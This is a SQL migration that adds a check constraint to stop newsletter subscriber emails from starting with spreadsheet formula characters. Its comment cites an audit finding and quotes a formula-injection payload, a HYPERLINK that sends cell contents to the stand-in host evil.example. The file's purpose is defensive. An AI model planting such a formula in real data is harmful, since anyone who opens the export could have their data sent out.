-- An address that a spreadsheet would run as a formula is refused (issue 19, finding 3):
-- `=HYPERLINK("https://evil.example/?"&A3,"x@y.z")` passed the address CHECK, and the dashboard's
-- export wrote it as a live formula. The export now neutralises such cells (src/lib/csv.ts); the
-- database refuses them in the first place: a leading =, +, -, @, tab or carriage return (the
-- address CHECK already refused whitespace and a leading @; the list here is the whole rule).
--
-- NOT VALID: the rule holds for every row inserted or updated from now on, but the existing rows
-- are not checked, so a hosted project whose list already holds such an address still migrates
-- (a validating ADD CONSTRAINT would fail, and deleting or rewriting a subscriber's address in a
-- migration would lose or falsify what they gave). The export neutralises those old cells. To check
-- the old rows too once none is left:
--   select email from public.newsletter_subscribers where left(email, 1) in ('=', '+', '-', '@', E'\t', E'\r');
--   alter table public.newsletter_subscribers validate constraint newsletter_subscribers_email_formula_check;
alter table public.newsletter_subscribers
  add constraint newsletter_subscribers_email_formula_check
  check (left(email, 1) not in ('=', '+', '-', '@', E'\t', E'\r')) not valid;
